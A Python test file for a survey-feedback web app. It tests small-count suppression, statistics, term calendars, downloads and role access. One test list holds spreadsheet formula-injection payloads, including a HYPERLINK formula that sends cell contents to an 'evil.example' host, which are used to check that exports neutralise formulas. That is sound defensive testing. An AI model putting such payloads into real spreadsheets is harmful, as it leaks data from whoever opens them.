"""The feedback tab: disclosure control (including a recovery attack), statistics, terms,
hand-counted numbers, downloads and roles."""

from __future__ import annotations

import csv as csv_module
import io
import re
from datetime import date, datetime

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import func, select

from sefvoice import answer_tally
from sefvoice.definitions import load_charter
from sefvoice.demo import load_demo_data
from sefvoice.extensions import db
from sefvoice.models import AnswerTally, AuditEvent, Response
from sefvoice.release import shown
from sefvoice.release.shown import Rules, Shown
from sefvoice.release.statistics import wilson_interval
from sefvoice.surveys import held as held_responses
from sefvoice.surveys import versions as survey_versions
from sefvoice.terms import TermCalendar, calendar

from .conftest import EASYREAD, post_form, sign_in

RULES = Rules(min_count=5, min_base=10)
NO_NUMBERS = pd.DataFrame(columns=["number", "n"])


# Statistics


@pytest.mark.parametrize(
    ("successes", "n", "low", "high"),
    [  # Reference values: Newcombe (1998), Statistics in Medicine 17:857, table I.
        (81, 263, 0.2553, 0.3662),
        (15, 148, 0.0624, 0.1605),
        (0, 20, 0.0, 0.1611),
        (1, 29, 0.0061, 0.1718),
    ],
)
def test_wilson_interval_matches_published_values(successes, n, low, high):
    got_low, got_high = wilson_interval(successes, n)
    assert got_low == pytest.approx(low, abs=5e-4)
    assert got_high == pytest.approx(high, abs=5e-4)


# Terms


def test_responses_belong_to_the_term_of_their_submission_date():
    terms = TermCalendar()
    assert terms.term_for(date(2023, 5, 1)).name == "Summer 2023"
    assert terms.term_for(date(2023, 8, 31)).name == "Summer 2023"
    assert terms.term_for(date(2023, 9, 1)).name == "Autumn 2023"
    assert terms.term_at(datetime(2024, 1, 1, 0, 0, 1)).name == "Spring 2024"
    summer = terms.named("summer 2023")
    assert (summer.starts_on, summer.ends_on) == (date(2023, 5, 1), date(2023, 8, 31))
    assert terms.previous(summer).name == "Spring 2023"
    assert terms.previous(terms.named("Spring 2024")).name == "Autumn 2023"
    with pytest.raises(ValueError, match="use one of Spring, Summer, Autumn"):
        terms.named("Michaelmas 2023")


# Moments (naive UTC, as stored) either side of local midnight where terms meet, in summer
# time (BST, UTC+1) and in winter (GMT), and the term each belongs to in Europe/London.
TERM_EDGES = [
    (datetime(2023, 4, 30, 22, 59, 59), "Spring 2023"),  # 23:59:59 BST, 30 April
    (datetime(2023, 4, 30, 23, 0, 0), "Summer 2023"),  # 00:00 BST, 1 May
    (datetime(2023, 4, 30, 23, 30), "Summer 2023"),  # 00:30 BST, 1 May
    (datetime(2023, 8, 31, 22, 59, 59), "Summer 2023"),  # 23:59:59 BST, 31 August
    (datetime(2023, 8, 31, 23, 0, 0), "Autumn 2023"),  # 00:00 BST, 1 September
    (datetime(2023, 12, 31, 23, 59, 59), "Autumn 2023"),  # 23:59:59 GMT, 31 December
    (datetime(2024, 1, 1, 0, 0, 0), "Spring 2024"),  # 00:00 GMT, 1 January
]


@pytest.mark.parametrize(("moment", "term"), TERM_EDGES)
def test_a_moment_belongs_to_the_term_of_its_local_date(moment, term):
    assert TermCalendar().term_at(moment).name == term
    start, end = TermCalendar().named(term).bounds()
    assert start <= moment < end


def test_term_bounds_are_local_midnights_in_utc():
    terms = TermCalendar()
    assert terms.named("Summer 2023").bounds() == (
        datetime(2023, 4, 30, 23),  # 00:00 BST
        datetime(2023, 8, 31, 23),
    )
    assert terms.named("Autumn 2023").bounds() == (datetime(2023, 8, 31, 23), datetime(2024, 1, 1))
    auckland = TermCalendar(zone="Pacific/Auckland")  # UTC+12 in May
    assert auckland.term_at(datetime(2023, 4, 30, 12)).name == "Summer 2023"
    with pytest.raises(ValueError, match="'Europe/Lndon' is not a time zone"):
        TermCalendar(zone="Europe/Lndon")


def test_the_app_will_not_start_with_an_unknown_time_zone(database_url):
    from .conftest import make_app

    with pytest.raises(ValueError, match="SEFVOICE_TIMEZONE: 'BST' is not a time zone"):
        make_app(database_url, TIMEZONE="BST")


def test_a_quoted_comment_is_dated_by_its_local_month():
    from sefvoice.bulletin.content import Quote
    from sefvoice.feedback.comments import ApprovedComment

    sent = datetime(2023, 4, 30, 23, 30)  # 00:30 BST on 1 May: a Summer comment
    comment = ApprovedComment("Better", "Parent carer survey", "Q", "theme", "p", 1, sent)
    quote = Quote.of(comment, TermCalendar().term_at(sent))
    assert quote.source == "Parent carer survey, May 2023"


def test_the_tally_counts_each_answer_in_its_local_term(app):
    """Each response is tallied as at its submission, then recounted: both put it in the
    term of its local date, on SQLite (a Python function) and PostgreSQL (AT TIME ZONE)."""
    from sefvoice.release.grouped_counts import grouped_counts

    with app.app_context():
        survey = survey_versions.current_survey("all-types")
        for moment, _ in TERM_EDGES:
            _respond(survey, "me", {"pick-one": ["cats"]}, moment)
            answer_tally.add_responses(Response.submitted_at == moment)
        db.session.commit()
        rows = select(AnswerTally).order_by(*AnswerTally.__table__.primary_key.columns)
        as_kept = [(t.kind, t.key, t.month, t.count) for t in db.session.scalars(rows)]
        answer_tally.recount()
        assert [(t.kind, t.key, t.month, t.count) for t in db.session.scalars(rows)] == as_kept
        terms = TermCalendar()
        names = ["Spring 2023", "Summer 2023", "Autumn 2023", "Spring 2024"]
        counts = grouped_counts(terms.between(date(2023, 1, 1), date(2024, 1, 1)))
        people = counts.respondents.groupby("term")["n"].sum().to_dict()
    expected = {name: sum(term == name for _, term in TERM_EDGES) for name in names}
    assert people == expected


def test_terms_can_be_named_in_config():
    terms = TermCalendar("Autumn=09-01,Spring=01-01,Summer=04-01")
    assert terms.term_for(date(2023, 4, 20)).name == "Summer 2023"
    assert terms.named("Spring 2023").ends_on == date(2023, 3, 31)
    with pytest.raises(ValueError, match="must start on the 1st of a month"):
        TermCalendar("Spring=01-01,Summer=04-15")


# Disclosure control (the rules for one number; whole releases: tests/test_release.py)


def test_small_counts_are_shown_as_fewer_than_5():
    assert shown.count(4, RULES).text == "fewer than 5"
    assert shown.count(0, RULES).text == "fewer than 5"
    assert shown.count(5, RULES).text == "5"
    assert shown.count(1212, RULES).text == "1,212"
    assert shown.percent(5, 9, RULES).hidden
    assert shown.percent(5, 10, RULES).text == "50%"


# The tab's numbers equal a hand count on a small fixture


def _respond(survey, filled_by: str, answers: dict, submitted: datetime) -> None:
    response_id, _ = held_responses.start_response(survey, filled_by)
    response = db.session.get(Response, response_id)
    definition = survey_versions.definition_of(survey)
    for question_id, value in answers.items():
        question = definition.question(question_id)
        if question.type == "number":
            held_responses.save_answer(response.id, question, number=value)
        else:
            held_responses.save_answer(response.id, question, option_ids=value)
    response.submitted_at = submitted
    db.session.commit()


@pytest.fixture
def hand_counted(app):
    """Summer 2023: 14 people. pick-one: 9 cats, 5 dogs. views-included: 6 yes, 5 partly,
    3 no. weeks-waited: 1..14. Spring 2023: 10 people, pick-one 5 cats, 5 dogs."""
    with app.app_context():
        survey = survey_versions.current_survey("all-types")
        views = ["yes"] * 6 + ["partly"] * 5 + ["no"] * 3
        for i in range(14):
            _respond(
                survey,
                "me" if i < 8 else "someone-for-me",
                {
                    "pick-one": ["cats" if i < 9 else "dogs"],
                    "views-included": [views[i]],
                    "weeks-waited": i + 1,
                },
                datetime(2023, 6, 1 + i),
            )
        for i in range(10):
            _respond(
                survey, "me", {"pick-one": ["cats" if i < 5 else "dogs"]}, datetime(2023, 2, 1 + i)
            )
        # Not submitted: must not count.
        held_responses.start_response(survey, "me")
        answer_tally.recount()  # the responses were back-dated by hand, so count them afresh
    return app


def test_the_tally_kept_at_submission_equals_a_recount(app, client):
    from tests.test_taking_a_survey import ALL_ANSWERS, answer, start

    for filled_by in ("me", "me", "someone-for-me"):
        other = app.test_client()
        start(other, filled_by)
        for question_id, value in ALL_ANSWERS:
            answer(other, question_id, value)
        assert post_form(other, "/s/all-types/check", {}).status_code == 302
    with app.app_context():
        rows = select(AnswerTally).order_by(*AnswerTally.__table__.primary_key.columns)
        as_kept = [
            (t.survey_slug, t.question_id, t.kind, t.key, t.filled_by, t.count)
            for t in db.session.scalars(rows)
        ]
        answer_tally.recount()
        recounted = [
            (t.survey_slug, t.question_id, t.kind, t.key, t.filled_by, t.count)
            for t in db.session.scalars(rows)
        ]
    assert as_kept == recounted
    assert ("all-types", "pick-many", "choice", "walk", "me", 2) in as_kept
    assert ("all-types", "", "response", "", "someone-for-me", 1) in as_kept
    assert ("all-types", "weeks-waited", "number", "12", "me", 2) in as_kept


def _result(summary, question_id: str):
    return next(
        q for q in summary.questions if (q.survey_slug, q.question_id) == ("all-types", question_id)
    )


def test_the_tabs_numbers_equal_a_hand_count(hand_counted, client):
    sign_in(client, "officer")
    page = client.get("/feedback/?term=Summer+2023").get_data(as_text=True)
    assert "14 people sent answers" in page
    from sefvoice.release import service as release_service

    with hand_counted.app_context():
        summary = release_service.publication_for(calendar().named("Summer 2023")).summary
    pick_one = _result(summary, "pick-one")
    assert [(o.count.text, o.percent.text) for o in pick_one.options] == [
        ("9", "64%"),
        ("5", "36%"),
    ]
    assert pick_one.positive.text == "64%"
    views = _result(summary, "views-included")
    # 6 yes, 5 partly, 3 no. The 3 is under 5, so "partly" and "no" are added together
    # (easyread/combined-answers.yaml): 8, which says nothing of either.
    assert [(o.label, o.count.text) for o in views.options] == [("Yes", "6"), ("Partly or no", "8")]
    assert views.answering.text == "14" and views.positive.text == "43%"
    weeks = _result(summary, "weeks-waited")
    assert weeks.median.text == "7.5 weeks"
    by_principle = {row.key: row for row in summary.by_principle}
    assert by_principle["actively-listen"].positive.text == "64%"  # pick-one only
    assert by_principle["actively-listen"].questions == 1
    assert by_principle["actively-listen"].change.text == "+14 points"  # 64% against 50%
    by_filled_by = {row.name: row for row in summary.group("by-filled-by").rows}
    names = load_charter(EASYREAD).filled_by
    # 8 on their own, 6 for them, no one with help: that row is listed all the same, as 0,
    # with "no answers" for its % positive.
    rows = [row.respondents.text for row in summary.group("by-filled-by").rows]
    assert rows == ["8", "0", "6"]
    assert by_filled_by[names["me-with-help"]].positive.text == "no answers"
    assert list(by_filled_by) == list(names.values())
    # 6 people filled it in for someone else: too few for a percentage.
    assert by_filled_by[names["someone-for-me"]].positive.hidden


def test_downloads_carry_the_same_suppression(hand_counted, client):
    sign_in(client, "officer")
    csv = client.get("/feedback/download/by-filled-by.csv?term=Summer+2023")
    assert csv.status_code == 200 and "attachment" in csv.headers["Content-Disposition"]
    assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    rows = pd.read_csv(io.BytesIO(csv.data), encoding="utf-8-sig", nrows=3)
    assert list(rows["People who answered"]) == [8, 0, 6]
    # After a blank row, whether the figures are published: this term is a draft.
    assert csv.data.decode("utf-8-sig").splitlines()[-2:] == [
        "",
        '"Draft: these figures may change"',
    ]
    xlsx = client.get("/feedback/download/by-filled-by.xlsx?term=Summer+2023")
    sheet = pd.read_excel(io.BytesIO(xlsx.data), dtype=str, nrows=3)
    assert list(sheet["People who answered"]) == ["8", "0", "6"]
    # The tab says why a 0 is shown beside numbers under 5 that are not.
    tab = client.get("/feedback/?term=Summer+2023").get_data(as_text=True)
    assert "a number below 5 is not shown (a group no one was in shows 0)" in " ".join(tab.split())
    assert client.get("/feedback/download/nope.csv").status_code == 404
    assert client.get("/feedback/download/by-term.pdf").status_code == 404
    with hand_counted.app_context():
        exports = db.session.scalars(select(AuditEvent).filter_by(action="export")).all()
    assert len(exports) == 2


def _sheet(data: bytes) -> list[list]:
    """The XLSX's cells as (value, type, number format), row by row."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [[(c.value, c.data_type, c.number_format) for c in row] for row in sheet.iter_rows()]


def test_downloads_hold_numbers_as_numbers(hand_counted, client):
    sign_in(client, "officer")
    url = "/feedback/download/{}?term=Summer+2023"
    csv = client.get(url.format("q-all-types-pick-one.csv")).data.decode("utf-8-sig")
    assert csv.splitlines()[:3] == [
        '"Answer","People","%"',
        '"Cats (positive)",9,64',
        '"Dogs",5,36',
    ]
    rows = _sheet(client.get(url.format("q-all-types-pick-one.xlsx")).data)
    assert rows[1] == [("Cats (positive)", "s", "General"), (9, "n", "#,##0"), (0.64, "n", "0%")]
    who = _sheet(client.get(url.format("by-filled-by.xlsx")).data)
    assert [row[1][:2] for row in who[1:4]] == [(8, "n"), (0, "n"), (6, "n")]
    # A scorecard: the number of questions, a count, a % and a change in points.
    principles = client.get(url.format("by-principle.csv")).data.decode("utf-8-sig")
    header, *lines = principles.splitlines()
    assert header.endswith('"% positive","Change since last term (points)"')
    # (How many questions count is tested in test_release.py; here only that it is a number.)
    assert any(re.fullmatch(r'"Actively listen",\d+,14,64,14', line) for line in lines), lines
    cells = next(
        r for r in _sheet(client.get(url.format("by-principle.xlsx")).data) if r[4][0] == 14
    )
    assert isinstance(cells[1][0], int) and cells[1][1:] == ("n", "#,##0")
    assert cells[2:] == [
        (14, "n", "#,##0"),
        (0.64, "n", "0%"),
        (14, "n", '+#,##0" points";-#,##0" points";#,##0" points"'),
    ]
    weeks = _sheet(client.get(url.format("q-all-types-weeks-waited.xlsx")).data)
    assert weeks[2][1] == (7.5, "n", '#,##0.0" weeks"')


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Open figures")',
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
]


def test_exported_text_cannot_run_as_a_formula():
    from sefvoice.feedback.exports import to_csv, to_xlsx
    from sefvoice.release.tables import Table

    table = Table(
        "t",
        "T",
        ["=Name", "Change"],
        [[text, Shown(-4, "-4 points")] for text in HOSTILE] + [["-", Shown(None, "hidden")]],
    )
    lines = list(csv_module.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert lines[0] == ["'=Name", "Change (points)"]
    assert lines[1:] == [["'" + text, "-4"] for text in HOSTILE] + [["'-", "hidden"]]
    rows = _sheet(to_xlsx(table))
    assert rows[0][0][:2] == ("'=Name", "s")
    for text, row in zip(HOSTILE, rows[1:], strict=False):
        assert row[0][:2] == ("'" + text, "s")
        assert row[1][:2] == (-4, "n")  # a genuine negative number stays a number
    assert rows[-1][0][:2] == ("'-", "s")


def test_a_measure_named_as_a_formula_downloads_as_text(app, client):
    from sefvoice.indicators import service as indicators
    from sefvoice.indicators.importer import read_rows

    name = HOSTILE[0].replace('"', '""')
    data = (
        f'code,name,domain,period,value,unit,outcome\nevil,"{name}",education,2023-01,5,count,3\n'
    ).encode()
    with app.app_context():
        indicators.apply_import(indicators.plan_import(read_rows(data, "m.csv")), "m.csv", "t")
    sign_in(client, "officer")
    xlsx = client.get("/feedback/download/measures-3.xlsx?term=Summer+2023")
    assert _sheet(xlsx.data)[1][0][:2] == ("'" + HOSTILE[0], "s")
    csv = client.get("/feedback/download/measures-3.csv?term=Summer+2023").data
    assert csv.decode("utf-8-sig").splitlines()[1].startswith('"\'=HYPERLINK(""http')


def test_hidden_numbers_never_reach_the_page(hand_counted, client):
    sign_in(client, "officer")
    page = client.get("/feedback/?term=Summer+2023").get_data(as_text=True)
    table = page[page.index('id="q-all-types-views-included"') :]
    table = table[: table.index("</table>")]
    # 5 partly and 3 no, added together: 5 of 14 is 36%, 3 of 14 is 21%: neither may
    # appear, nor the counts themselves.
    assert "Partly or no" in table
    assert "36%" not in table and "21%" not in table
    assert ">5<" not in table and ">3<" not in table
    # 8 on their own, no one with help, 6 for them: every row shown, the empty one as 0.
    who = page[page.index('id="by-filled-by"') :]
    who = who[: who.index("</table>")]
    assert ">0<" in who and ">6<" in who and "hidden" not in who and "fewer than" not in who


@pytest.mark.parametrize(
    ("role", "status"), [(None, 302), ("pcv_rep", 200), ("officer", 200), ("admin", 200)]
)
@pytest.mark.parametrize("url", ["/feedback/", "/feedback/download/by-term.csv"])
def test_feedback_pages_by_role(client, role, status, url):
    """Nothing is published: a rep is told the figures are being prepared (a download has
    no file to give)."""
    if role:
        sign_in(client, role)
    reply = client.get(url)
    if role == "pcv_rep" and "download" in url:
        status = 404
    assert reply.status_code == status
    if role is None:
        assert "/sign-in" in reply.location
    if role == "pcv_rep":
        assert "are being prepared" in reply.get_data(as_text=True)


def test_the_tab_with_every_survey_answered(app, client):
    with app.app_context():
        load_demo_data()
        summer = TermCalendar().named("Summer 2023")
        start, end = summer.bounds()
        in_summer = db.session.scalar(
            select(func.count(Response.id)).where(
                Response.submitted_at >= start, Response.submitted_at < end
            )
        )
    sign_in(client, "officer")
    page = client.get("/feedback/?term=Summer+2023").get_data(as_text=True)
    assert f"{in_summer} people sent answers" in page
    by_term = page[page.index('id="by-term"') :]
    assert f'<th scope="row">Summer 2023</th><td class="numeric">{in_summer}</td>' in by_term
    # "I have not used it" (the Local Offer) is left out of the % and said beside it.
    table = page.index('id="q-parent-carer-annual-local-offer"')
    before, local_offer = page[table - 800 : table], page[table : page.index("</table>", table)]
    assert re.search(r"\d+ people said this does not apply to them", before), before
    assert "I have not used it (does not apply: left out of the %)" in local_offer
    for title in ("Parent carer survey", "Your life survey", "Your annual review"):
        assert title in page
    # The measures sit beside the feedback of their outcome, with status in words.
    outcome_3 = page[page.index('id="outcome-3"') : page.index('id="outcome-4"')]
    assert "Longest wait for paediatric therapy" in outcome_3
    assert "52 weeks (Jul 2023)" in outcome_3
    assert "Longer than the target of 30 weeks (worse)" in outcome_3
    assert "New EHC plans issued within 20 weeks" in outcome_3
    assert "Jun 2022 70.5%, Apr 2023 100%, May 2023 95%" in outcome_3
    csv = client.get("/feedback/download/measures-3.csv?term=Summer+2023")
    assert csv.status_code == 200 and "Longest wait for paediatric therapy" in csv.text


def test_charts_are_svg_with_a_text_alternative_and_no_repeated_ids(hand_counted, client):
    sign_in(client, "officer")
    page = client.get("/feedback/?term=Summer+2023").get_data(as_text=True)
    # Each of the six charts (one per grouping: who filled it in, how people answered)
    # twice: for a wide screen and, labels above bars, for a phone.
    assert page.count("<svg ") == 12
    assert page.count('<div class="chart__wide"><svg ') == 6
    assert page.count('<div class="chart__narrow"><svg ') == 6
    assert 'id="clip"' not in page and 'id="group"' not in page
    # The summary is said once, as the caption: the drawing has no name of its own.
    assert '<figcaption class="chart__summary">By term. Highest: Summer 2023 (' in page
    assert 'aria-label="By term.' not in page and page.count('<svg aria-hidden="true"') == 12


def test_unknown_term_is_not_found(client):
    sign_in(client, "pcv_rep")
    assert client.get("/feedback/?term=Michaelmas+2023").status_code == 404
